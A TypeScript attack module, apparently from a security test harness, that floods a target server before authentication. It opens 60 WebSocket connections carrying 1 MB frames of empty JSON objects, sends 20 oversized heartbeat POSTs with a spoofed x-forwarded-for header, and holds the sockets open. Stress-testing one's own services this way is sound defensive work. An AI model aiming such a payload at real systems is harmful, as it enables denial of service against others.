import { attacker, frame, hold, Raw, tally, times } from "../raw.ts";
import type { Attack } from "../trial.ts";

const nodes = `[${Array.from({ length: 340_000 }, () => "{}").join()}]`;

/** Megabytes of tiny objects before anybody has proved who he is: as an authentication, a ping, a heartbeat. */
export const attack: Attack = async (target, signal) => {
  const authentication = frame(
    `{"hotkey": "5F", "timestamp": "x", "nonce": "n", "signature": "s", "x": ${nodes}}`,
  );
  const ping = frame(`{"type": "ping", "x": ${nodes}}`);
  const sockets = await times(60, async (index) => {
    const { raw, status } = await Raw.upgrade(target, index % 2 === 0 ? "/ws" : "/");
    if (status === 101) await raw.write(index % 2 === 0 ? authentication : ping);
    return raw;
  });
  const statuses = await times(20, async () => {
    const response = await fetch(`${target.url}/api/v1/heartbeat`, {
      method: "POST",
      headers: { "x-forwarded-for": attacker },
      body: `{"x": ${nodes}}`,
    }).catch(() => undefined);
    await response?.body?.cancel();
    return response?.status ?? 0;
  });
  await hold(2000, signal);
  sockets.forEach((raw) => raw[Symbol.dispose]());
  return { said: `60 first frames and 20 heartbeats of 1 MB; heartbeats: ${tally(statuses)}`, faults: [] };
};
